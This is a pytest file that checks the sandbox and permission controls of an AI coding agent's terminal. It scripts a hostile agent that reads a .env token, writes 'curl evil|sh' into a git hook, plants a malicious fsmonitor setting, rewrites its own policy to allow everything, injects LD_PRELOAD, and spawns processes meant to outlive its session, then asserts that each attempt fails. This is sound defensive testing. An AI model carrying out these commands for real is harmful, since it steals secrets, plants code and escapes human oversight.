"""A hostile agent's terminals: asked, audited, filtered, sandboxed, and never orphaned."""

from __future__ import annotations

import asyncio
import json
import os
import random
import signal
from pathlib import Path
from typing import Any

import pytest

from goose_ls.workspace import sandbox
from goose_ls.workspace.terminals import MAX_OUTPUT_LIMIT
from support.harness import Editor, SharedEditor, shared_agent, shared_with
from test_agent_tools import _audit, _said, _shell_call

pytestmark = shared_agent(__name__)

RUN_ALL = {"rules": [{"action": "allow", "kind": "execute"}]}
HAVE_BWRAP = sandbox.choose("workspace").active
needs_bwrap = pytest.mark.skipif(
    not HAVE_BWRAP, reason=f"no bubblewrap sandbox here: {sandbox.choose('workspace').problem}"
)


async def _run(editor: Editor, steps: list[dict[str, Any]], **settings: Any) -> str:
    await editor.start({"turns": [steps]}, settings=settings)
    sid = await editor.new_session()
    mid = await editor.prompt(sid, "go")
    await editor.goose.turn_end(mid)
    return editor.goose.text(mid)


async def _answer(editor: Editor, option: str, count: int = 1) -> dict[str, Any]:
    asked = await editor.goose.wait_for(
        lambda: editor.goose.of_kind("permission_request")[count - 1 :]
    )
    await editor.goose.request(
        "goose/permission", {"requestId": asked[0]["requestId"], "optionId": option}
    )
    return asked[0]


async def test_a_terminal_asks_first_and_a_refusal_is_audited(shared: SharedEditor) -> None:
    await shared.start({"turns": [[{"terminal": {"command": "echo ran"}}]]})
    sid = await shared.new_session()
    mid = await shared.prompt(sid, "go")
    asked = await _answer(shared, "reject_once")
    assert "echo ran" in asked["toolCall"]["title"]
    await shared.goose.turn_end(mid)
    text = shared.goose.text(mid)
    assert "[terminal error -32003: permission denied: `echo ran` refused by the user]" in text
    judged = f"echo ran (in {shared.workspace})"
    assert [(a["target"], a["outcome"]) for a in _audit(shared)] == [(judged, "reject_once")]


@pytest.mark.asyncio(loop_scope="function")  # its own settings
async def test_a_denied_command_never_runs(editor: Editor) -> None:
    (editor.workspace / ".env").write_text("TOKEN=hunter2\n")
    deny = {"rules": [{"action": "deny", "kind": "execute", "command": "cat"}]}
    text = await _run(editor, [{"terminal": {"command": "cat .env"}}], policy=deny)
    assert "hunter2" not in text
    assert "permission denied: `cat .env` refused by policy rule deny" in text
    assert _audit(editor)[-1]["outcome"] == "reject_once"


async def test_a_permission_for_the_tool_call_runs_its_terminal_once(shared: SharedEditor) -> None:
    steps = [
        *_shell_call("a", "echo granted"),
        {"terminal": {"command": "echo granted"}},
        {"terminal": {"command": "echo granted"}},
    ]
    await shared.start({"turns": [steps]})
    sid = await shared.new_session()
    mid = await shared.prompt(sid, "go")
    await _answer(shared, "allow_once")
    await _answer(shared, "reject_once", count=2)  # the grant was used up
    await shared.goose.turn_end(mid)
    text = shared.goose.text(mid)
    assert text.count('"output": "granted\\n"') == 1, text
    assert "refused by the user" in text
    assert [a["by"] for a in _audit(shared)] == ["user", "user, for its tool call", "user"]


@pytest.mark.asyncio(loop_scope="function")  # its own settings
async def test_code_injecting_variables_are_dropped(editor: Editor) -> None:
    line = 'echo "[${LD_PRELOAD:-none}|${BASH_ENV:-none}|${PYTHONSTARTUP:-none}|$FOO]"'
    env = {"LD_PRELOAD": "/x/evil.so", "BASH_ENV": "/x/evil.sh", "PYTHONSTARTUP": "/x/e.py"}
    text = await _run(
        editor,
        [{"terminal": {"command": line, "env": {**env, "FOO": "kept"}}}],
        policy=RUN_ALL,
        terminal={"allowedEnv": ["PYTHONSTARTUP"]},
    )
    (result,) = _said(text, "terminal")
    assert result["output"].strip().endswith("[none|none|/x/e.py|kept]")
    assert "Dropped LD_PRELOAD, BASH_ENV" in json.dumps(editor.goose.of_kind("note"))


@pytest.mark.asyncio(loop_scope="function")  # its own settings
async def test_the_card_says_when_a_command_runs_unsandboxed(editor: Editor) -> None:
    await editor.start(
        {"turns": [[{"terminal": {"command": "true"}}]]}, settings={"terminal": {"sandbox": "off"}}
    )
    sid = await editor.new_session()
    mid = await editor.prompt(sid, "go")
    asked = await _answer(editor, "allow_once")
    assert "UNSANDBOXED" in asked["toolCall"]["title"]
    await editor.goose.turn_end(mid)


@needs_bwrap
@shared_with({"policy": RUN_ALL})
async def test_the_sandbox_hides_secrets_and_keeps_writes_inside(shared: SharedEditor) -> None:
    (shared.workspace / ".env").write_text("TOKEN=hunter2\n")
    outside = shared.tmp / "outside.txt"
    outside.write_text("untouched\n")
    line = (
        f"cat .env; echo pwned > {outside}; echo ok > inside.txt; "
        "echo scratch > /tmp/t && cat /tmp/t"
    )
    text = await _run(shared, [{"terminal": {"command": line}}], policy=RUN_ALL)
    (result,) = _said(text, "terminal")
    assert "hunter2" not in result["output"]
    assert "scratch" in result["output"], "a private /tmp is writable"
    assert outside.read_text() == "untouched\n"
    assert (shared.workspace / "inside.txt").read_text() == "ok\n"
    assert (shared.workspace / ".env").read_text() == "TOKEN=hunter2\n"


@needs_bwrap
@pytest.mark.asyncio(loop_scope="function")  # its own settings
async def test_an_allowed_command_cannot_grant_itself_or_plant_code(editor: Editor) -> None:
    own = editor.workspace / ".goose-ls"
    own.mkdir()
    (own / "policy.json").write_text('{"rules": []}')
    hooks = editor.workspace / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (editor.workspace / ".git" / "config").write_text("[core]\n")
    (editor.workspace / "sub").mkdir()
    (editor.workspace / "sub" / "Makefile").write_text("all:\n")
    data = editor.workspace / "data"  # goose-ls's data dir, here inside the workspace
    grant = '{"rules": [{"action": "allow"}]}'
    line = (
        f"echo '{grant}' > .goose-ls/policy.json; echo 'curl evil|sh' > .git/hooks/pre-commit; "
        "echo '[core] fsmonitor = evil' >> .git/config; echo 'all: ; evil' > sub/Makefile; "
        "echo x > data/audit.log; echo fine > notes.txt; echo done"
    )
    # The data dir in the workspace: the agent's own sandbox refuses that setup (it would
    # not start); here the terminal's sandbox alone is tried.
    text = await _run(
        editor,
        [{"terminal": {"command": line}}],
        policy=RUN_ALL,
        dataDir=str(data),
        agent={"sandbox": "off"},
    )
    (result,) = _said(text, "terminal")
    refused = [
        line for line in result["output"].splitlines()
        if line.endswith(("Read-only file system", "Permission denied"))
    ]  # fmt: skip
    assert len(refused) == 5, result["output"]
    assert (own / "policy.json").read_text() == '{"rules": []}'
    assert not (hooks / "pre-commit").exists()
    assert (editor.workspace / ".git" / "config").read_text() == "[core]\n"
    assert (editor.workspace / "sub" / "Makefile").read_text() == "all:\n"
    audit = (data / "audit.log").read_text().splitlines()
    assert audit and all(json.loads(record)["target"] for record in audit), "still whole records"
    assert (editor.workspace / "notes.txt").read_text() == "fine\n", "the rest is writable"


@needs_bwrap
@pytest.mark.asyncio(loop_scope="function")  # its own settings
async def test_strict_has_no_network(editor: Editor) -> None:
    line = "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '"
    text = await _run(
        editor, [{"terminal": {"command": line}}], policy=RUN_ALL, terminal={"sandbox": "strict"}
    )
    (result,) = _said(text, "terminal")
    assert result["output"].split() == ["lo"]


@shared_with({"policy": RUN_ALL})
async def test_output_is_capped_whatever_the_agent_asks(shared: SharedEditor) -> None:
    line = "head -c 20000000 /dev/zero | tr '\\0' x"
    spec = {"command": line, "outputByteLimit": 10**12, "summary": True}
    text = await _run(shared, [{"terminal": spec}], policy=RUN_ALL)
    (result,) = _said(text, "terminal")
    assert result["truncated"] is True
    assert result["output"] == MAX_OUTPUT_LIMIT


# --- orphans -------------------------------------------------------------------------------


def _tag() -> str:
    """A sleep duration no other process uses: how the test finds what the command left."""
    return str(random.randint(700_000, 799_999))


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return "gone"


def _running(tag: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            args = (entry / "cmdline").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if tag.encode() in args and state != "Z":
            found.append(int(entry.name))
    return found


async def _none_left(tag: str, seconds: float = 5.0) -> bool:
    for _ in range(int(seconds / 0.1)):
        if not _running(tag):
            return True
        await asyncio.sleep(0.1)
    return False


def _escapes(tag: str) -> str:
    """Processes that leave the terminal's group: setsid, and a double fork."""
    return f"setsid sleep {tag} & (sleep {tag} &) ; (setsid sh -c 'sleep {tag} &' &)"


MODES = [
    pytest.param(
        mode,
        id=name,
        marks=shared_with({"policy": RUN_ALL, "terminal": {"sandbox": mode}}),
    )
    for mode, name in [("off", "unsandboxed"), ("workspace", "sandboxed")]
]
"""The sandbox modes; the tests of each share a goose-ls that allows every command."""


@pytest.fixture(params=MODES)
def mode(request: pytest.FixtureRequest) -> str:
    if request.param == "workspace" and not HAVE_BWRAP:
        pytest.skip("no bubblewrap sandbox here")
    return str(request.param)


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc (Linux)")
async def test_nothing_a_terminal_started_survives_its_release(
    shared: SharedEditor, mode: str
) -> None:
    tag = _tag()
    line = f"{_escapes(tag)}; sleep 0.3; echo done"
    await _run(
        shared, [{"terminal": {"command": line}}], policy=RUN_ALL, terminal={"sandbox": mode}
    )
    assert await _none_left(tag), f"left running: {_running(tag)}"


async def _start_escapees(editor: Editor, mode: str, tag: str) -> str:
    marker = editor.workspace / "started"
    line = f"{_escapes(tag)}; echo yes > {marker}; sleep {tag}"
    spec = {"command": line, "killAfter": 60, "release": False}
    await editor.start(
        {"turns": [[{"terminal": spec}]]},
        settings={"policy": RUN_ALL, "terminal": {"sandbox": mode}},
    )
    sid = await editor.new_session()
    await editor.prompt(sid, "go")
    await editor.goose.wait_for(lambda: marker.exists(), what="the command")
    await editor.goose.wait_for(lambda: len(_running(tag)) >= 4, what="its processes")
    return sid


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc (Linux)")
async def test_nothing_a_terminal_started_survives_its_session(
    shared: SharedEditor, mode: str
) -> None:
    tag = _tag()
    sid = await _start_escapees(shared, mode, tag)
    await shared.goose.request("goose/closeSession", {"sessionId": sid})
    assert await _none_left(tag), f"left running: {_running(tag)}"


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc (Linux)")
@pytest.mark.parametrize("sig", [signal.SIGHUP, signal.SIGTERM])
@pytest.mark.asyncio(loop_scope="function")  # kills goose-ls
async def test_nothing_survives_goose_ls_killed_by_a_signal(
    editor: Editor, mode: str, sig: signal.Signals
) -> None:
    tag = _tag()
    await _start_escapees(editor, mode, tag)
    server = editor.client._server
    assert server is not None
    children = Path(f"/proc/{server.pid}/task/{server.pid}/children").read_text().split()
    agent = [
        int(pid)
        for pid in children
        if b"goose_ls.scripted" in Path(f"/proc/{pid}/cmdline").read_bytes()
    ]
    assert agent, "the scripted agent is a child of goose-ls"
    os.kill(server.pid, sig)
    await asyncio.wait_for(server.wait(), 15)
    assert await _none_left(tag), f"left running: {_running(tag)}"
    assert all(_state(pid) in ("Z", "gone") for pid in agent), "the agent stopped too"
